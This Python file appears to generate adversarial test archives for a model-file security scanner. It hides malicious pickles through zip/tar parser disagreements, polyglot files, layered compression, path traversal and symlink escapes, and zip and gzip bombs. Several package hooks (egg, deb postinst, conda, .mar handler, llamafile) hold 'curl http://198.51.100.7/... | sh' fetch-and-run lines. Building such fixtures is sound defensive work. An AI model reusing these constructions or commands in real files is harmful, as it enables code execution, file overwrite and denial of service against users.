"""Third judge, attacks: archives and compressions whose readers disagree, that escape, burst, or hide a pickle."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from judge_kit import Folder, call, crc, npy, tarred, torch_zip, whole, zipped

BAD = whole(call("os", "system", "touch /tmp/third-judge-box"), 2)
GOOD = whole(b"K\x01", 2)
MAIN = b"import os; os.system('touch /tmp/third-judge-zipapp')\n"
ZERO = whole(b"K\x00", 2)
HEAD = "{{'descr': '{}', 'fortran_order': False, 'shape': (1,), }}"


def local(
    path: bytes, data: bytes, *, flags: int = 0, method: int = 0, size: int | None = None, sum_: int = -1
) -> bytes:
    """A zip member with its local header."""
    size = len(data) if size is None else size
    check = crc(data) if sum_ < 0 else sum_
    return (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 33, check, size, size, len(path), 0) + path + data
    )


def central(
    path: bytes, data: bytes, at: int, *, flags: int = 0, method: int = 0, mode: int = 0, extra: bytes = b""
) -> bytes:
    """A record of the central directory."""
    head = struct.pack("<IHHHHHHIII", 0x02014B50, 0x314, 20, flags, method, 0, 33, crc(data), len(data), len(data))
    return head + struct.pack("<HHHHHII", len(path), len(extra), 0, 0, 0, mode << 16, at) + path + extra


def end(count: int, size: int, at: int, comment: bytes = b"") -> bytes:
    """The end record."""
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, at, len(comment)) + comment


def archive(*members: tuple[bytes, bytes, bytes, int], prefix: bytes = b"", comment: bytes = b"") -> bytes:
    """A zip of (local name, central name, data, mode)."""
    out, directory = prefix, b""
    for local_name, central_name, data, mode in members:
        directory += central(central_name, data, len(out), mode=mode)
        out += local(local_name, data)
    return out + directory + end(len(members), len(directory), len(out), comment)


def tar(
    *members: tuple[str, bytes, bytes, str], fmt: int = tarfile.GNU_FORMAT, pax: dict[str, str] | None = None
) -> bytes:
    """A tar of (name, type, data, link name)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as box:
        for path, kind, data, link in members:
            info = tarfile.TarInfo(path)
            info.type, info.size, info.linkname = kind, len(data), link
            if pax:
                info.pax_headers = pax
            box.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zstd(data: bytes) -> bytes:
    """A Zstandard frame of one raw block."""
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(data)) + (len(data) << 3 | 1).to_bytes(3, "little") + data


def lz4(data: bytes) -> bytes:
    """An LZ4 frame of one stored block, without checksums of the content."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def ar(**files: bytes) -> bytes:
    """A Unix ar archive."""
    out = b"!<arch>\n"
    for path, data in files.items():
        shown = path.replace("__", "-").replace("_", ".")
        out += f"{shown:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(data):<10}`\n".encode()
        out += data + b"\n" * (len(data) % 2)
    return out


def seven(data: bytes, path: str) -> bytes:
    """A 7z archive with one member stored by the copy method."""
    names = b"\x00" + path.encode("utf-16-le") + b"\x00\x00"
    header = (
        b"\x01\x04\x06\x00\x01\x09" + bytes([len(data)]) + b"\x00\x07\x0b\x01\x00\x01\x01\x00\x0c" + bytes([len(data)])
    )
    header += b"\x0a\x01" + struct.pack("<I", crc(data)) + b"\x00\x00" + b"\x05\x01\x11" + bytes([len(names)]) + names
    header += b"\x00\x00"
    header = header.replace(
        struct.pack("<I", crc(data)) + b"\x00\x00", struct.pack("<I", crc(data)) + b"\x00\x08\x00\x00"
    )
    start = struct.pack("<QQI", len(data), len(header), crc(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", crc(start)) + start + data + header


def bomb(megabytes: int) -> bytes:
    """A gzip stream of many megabytes of noughts, made of repeated blocks."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(bytes(1 << 20), check)
    tail = struct.pack("<II", check, megabytes << 20 & 0xFFFFFFFF)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + first * megabytes + b"\x03\x00" + tail


def zip_bomb() -> bytes:
    """A zip whose many members share one large deflated body (a member table of one file)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(8 << 20)) + packer.flush()
    check = zlib.crc32(bytes(8 << 20))
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, check, len(data), 8 << 20, 1, 0) + b"a" + data
    record = struct.pack("<IHHHHHHIII", 0x02014B50, 20, 20, 0, 8, 0, 33, check, len(data), 8 << 20)
    records = b"".join(record + struct.pack("<HHHHHII", 4, 0, 0, 0, 0, 0, 0) + b"%04d" % n for n in range(3000))
    return head + records + end(3000, len(records), len(head))


def zips() -> dict[str, Folder]:
    """Zips."""
    plain = zipped({"archive/data.pkl": GOOD, "archive/version": b"3\n"})
    torch = torch_zip(BAD)
    honest, objects = npy(HEAD.format("<i8"), bytes(8)), npy(HEAD.format("|O"), BAD)
    two = zipped({"labels.npy": honest, "labels.npy#2": objects})
    flagged = bytearray(torch)
    flagged[6] |= 1
    broken = bytearray(torch)
    broken[14] ^= 0x55
    broken[torch.index(b"PK\x01\x02") + 16] ^= 0x55
    renamed = archive(
        (b"archive/data.txt", b"archive/data.pkl", BAD, 0), (b"archive/version", b"archive/version", b"3\n", 0)
    )
    version = local(b"m/version", b"3\n")
    lying = local(b"m/data.pkl", BAD, size=0, flags=8, sum_=0) + struct.pack("<III", crc(BAD), len(BAD), len(BAD))
    records = central(b"m/data.pkl", BAD, 0, flags=8) + central(b"m/version", b"3\n", len(lying))
    lying += version + records + end(2, len(records), len(lying) + len(version))
    hidden = local(b"m/data.pkl", BAD)
    directory = central(b"m/a", GOOD, len(hidden))
    unlisted = hidden + local(b"m/a", GOOD)
    unlisted += directory + end(1, len(directory), len(unlisted))
    second = plain[:-2] + struct.pack("<H", len(torch)) + torch
    unicode_extra = struct.pack("<HHBI", 0x7075, 5 + 10, 1, crc(b"m/data.txt")) + b"m/data.pkl"
    renaming = local(b"m/data.txt", BAD)
    renaming += central(b"m/data.txt", BAD, 0, extra=unicode_extra) + end(
        1, 46 + 10 + len(unicode_extra), len(renaming)
    )
    png = (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
        + b"\x90wS\xde"
    )
    gif = b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x01\0\0;"
    return {
        "duplicate-second": {"labels.npz": two},
        "duplicate-first": {"weights.pt": zipped({"a/data.pkl": BAD, "a/data.pkl#2": GOOD, "a/version": b"3\n"})},
        "encrypted-flag": {"pytorch_model.bin": bytes(flagged)},
        "wrong-crc": {"adapter.pt": bytes(broken)},
        "names-differ": {"model.pth": renamed},
        "size-in-descriptor": {"clf.pth": lying},
        "not-in-directory": {"m.zip": unlisted},
        "second-zip-in-comment": {"models.zip": second},
        "unicode-name-field": {"models.zip": renaming},
        "prefix-shell": {"run.sh": b"#!/bin/sh\nexec python3 $0\n" + zipped({"__main__.py": MAIN})},
        "prefix-png": {"figure.png": archive((b"__main__.py", b"__main__.py", MAIN, 0), prefix=png)},
        "prefix-gif": {"logo.gif": gif + zipped({"__main__.py": MAIN})},
        "prefix-pdf": {"paper.pdf": b"%PDF-1.4\n%%EOF\n" + zipped({"__main__.py": MAIN})},
        "suffix-pickle": {"pickle_then_zip.bin": BAD + plain},
        "suffix-after-end": {"w.pt": torch + b"\n" * 300},
        "deflated": {"a.pt": zipped({"a/data.pkl": BAD, "a/version": b"3\n"}, zipfile.ZIP_DEFLATED)},
        "bzip2-member": {"b.npz": zipped({"obj.pkl": BAD}, zipfile.ZIP_BZIP2)},
        "lzma-member": {"c.zip": zipped({"obj.pkl": BAD}, zipfile.ZIP_LZMA)},
        "upper-case": {"D.ZIP": zipped({"MODEL/DATA.PKL": BAD})},
        "nested-4": {"f.zip": zipped({"g.zip": zipped({"h.zip": zipped({"i.zip": torch})})})},
        "in-tar-gz": {"f.tgz": gzip.compress(tarred({"deep/model.pt": torch}), mtime=0)},
        "traversal": {"assets.zip": archive((b"../../.ssh/authorized_keys",) * 2 + (b"ssh-rsa AAAA\n", 0))},
        "traversal-backslash": {"assets.zip": archive((b"..\\..\\startup\\run.bat",) * 2 + (b"whoami\r\n", 0))},
        "absolute": {"data.zip": archive((b"/etc/cron.d/job",) * 2 + (b"* * * * * root id\n", 0))},
        "drive": {"data.zip": archive((b"C:/Windows/Temp/x.dll",) * 2 + (b"MZ", 0))},
        "symlink": {
            "data.zip": archive((b"out", b"out", b"/etc", 0o120777), (b"out/passwd", b"out/passwd", b"x", 0o100644))
        },
        "overlap-bomb": {"dataset.zip": zip_bomb()},
        "egg": {
            "pkg-1.0-py3.11.egg": zipped(
                {"pkg/__init__.py": b"import os\nos.system('curl http://198.51.100.7/e|sh')\n"}
            )
        },
        "wheel-pth": {
            "kernels-0.1-py3-none-any.whl": zipped(
                {"kernels.pth": b"import os; os.system('touch /tmp/third-judge-pth')\n", "kernels/__init__.py": b""}
            )
        },
        "mar-handler": {
            "densenet.mar": zipped(
                {
                    "MAR-INF/MANIFEST.json": b'{"model": {"handler": "h.py", "serializedFile": "m.pt"}}',
                    "h.py": b"import os\nos.system('curl -s http://198.51.100.7/h | bash')\n",
                    "m.pt": torch_zip(GOOD),
                }
            )
        },
    }


def others() -> dict[str, Folder]:
    """Tars, compressed streams and foreign archives."""
    reg, sym, lnk = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
    half = len(BAD) // 2
    members = gzip.compress(BAD[:half], mtime=0) + gzip.compress(BAD[half:], mtime=0)
    full_header = b"\x1f\x8b\x08\x1e\0\0\0\0\0\x03" + b"\x04\0abcd" + b"model.txt\0" + b"weights only\0"
    full_header += struct.pack("<H", crc(full_header) & 0xFFFF) + gzip.compress(BAD, mtime=0)[10:]
    filters = [{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2, "preset": 1}]
    control = gzip.compress(tarred({"postinst": b"#!/bin/sh\ncurl http://198.51.100.7/p | sh\n"}), mtime=0)
    yaml = b"target: nemo.Model\nmodel:\n  _target_: os.system\n  command: touch /tmp/third-judge-nemo\n"
    concatenated = tarred({"a": GOOD})[:1024] + tarred({"b.pkl": BAD})
    return {
        "tar--traversal": {"w.tar": tar(("../../../home/u/.bashrc", reg, b"id\n", ""))},
        "tar--absolute": {"w.tar.gz": gzip.compress(tar(("/etc/ld.so.preload", reg, b"/tmp/x.so\n", "")), mtime=0)},
        "tar--link-then-file": {
            "w.tar": tar(("cfg", sym, b"", "/home/u/.config"), ("cfg/autostart.sh", reg, b"id\n", ""))
        },
        "tar--link-up": {"w.tar.bz2": bz2.compress(tar(("x", sym, b"", "../../.."), ("x/etc/p", reg, b"1", "")))},
        "tar--hard-link": {"w.tar.xz": lzma.compress(tar(("shadow", lnk, b"", "/etc/shadow")))},
        "tar--pax-path": {
            "w.tar": tar(("ok.txt", reg, b"id\n", ""), fmt=tarfile.PAX_FORMAT, pax={"path": "../../evil"})
        },
        "tar--device": {"w.tar": tar(("null", tarfile.CHRTYPE, b"", ""), ("disk", tarfile.BLKTYPE, b"", ""))},
        "tar--twice": {"w.tar": tar(("m.pkl", reg, GOOD, ""), ("m.pkl", reg, BAD, ""))},
        "tar--long-name": {"w.tar": tar(("d" * 150 + "/m.pkl", reg, BAD, ""))},
        "tar--concatenated": {"w.tar": concatenated},
        "tar--no-extension": {"weights": tar(("data.pkl", reg, BAD, ""))},
        "tar--torch-old": {
            "model.pth": tar(
                ("sys_info", reg, ZERO, ""),
                ("pickle", reg, BAD, ""),
                ("storages", reg, ZERO + whole(b"]", 2), ""),
                ("tensors", reg, ZERO, ""),
            )
        },
        "tar--nemo": {
            "asr.nemo": tar(("./model_config.yaml", reg, yaml, ""), ("./model_weights.ckpt", reg, torch_zip(GOOD), ""))
        },
        "tar--zst": {"data.tar.zst": zstd(tar(("m.pkl", reg, BAD, "")))},
        "stream--gzip-members": {"m.pkl.gz": members},
        "stream--gzip-full-header": {"m.gz": full_header},
        "stream--gzip-no-trailer": {"m.pkl.gz": gzip.compress(BAD, mtime=0)[:-8]},
        "stream--bz2-two": {"m.pkl.bz2": bz2.compress(BAD[:half]) + bz2.compress(BAD[half:])},
        "stream--xz-two": {"m.pkl.xz": lzma.compress(BAD[:half]) + lzma.compress(BAD[half:])},
        "stream--xz-x86": {"m.xz": lzma.compress(BAD, filters=filters)},
        "stream--lzma-old": {"m.joblib.lzma": lzma.compress(BAD, format=lzma.FORMAT_ALONE)},
        "stream--zstd": {"m.pkl.zst": zstd(BAD)},
        "stream--zstd-after-skippable": {"m.pkl.zst": b"\x50\x2a\x4d\x18" + struct.pack("<I", 4) + b"note" + zstd(BAD)},
        "stream--lz4": {"m.joblib": lz4(BAD)},
        "stream--zlib-level-1": {"m.joblib.z": zlib.compress(BAD, 1)},
        "stream--five-layers": {"m.bin": gzip.compress(bz2.compress(lzma.compress(zlib.compress(zstd(BAD)))), mtime=0)},
        "stream--gzip-bomb": {"m.pkl.gz": gzip.compress(bomb(2048), mtime=0)},
        "stream--renamed-gzip": {"README.txt": gzip.compress(BAD, mtime=0)},
        "foreign--7z": {"models.7z": seven(BAD, "model.pkl")},
        "foreign--7z-renamed": {"model.bin": seven(BAD, "data.pkl")},
        "foreign--deb": {"cuda-helper.deb": ar(debian__binary=b"2.0\n", control_tar_gz=control)},
        "foreign--conda": {
            "pkg-1.0-0.tar.bz2": bz2.compress(
                tarred({"bin/.pkg-post-link.sh": b"curl http://198.51.100.7/c|sh\n", "info/index.json": b"{}"})
            )
        },
        "foreign--self-running": {
            "model.llamafile": b"#!/bin/sh\ncurl -s http://198.51.100.7/l | sh\nexit\n" + zipped({"w.gguf": b"GGUF"})
        },
    }


def shapes() -> dict[str, Folder]:
    """Every box."""
    return {f"zip--{slug}": folder for slug, folder in zips().items()} | {
        f"box-{slug}": folder for slug, folder in others().items()
    }
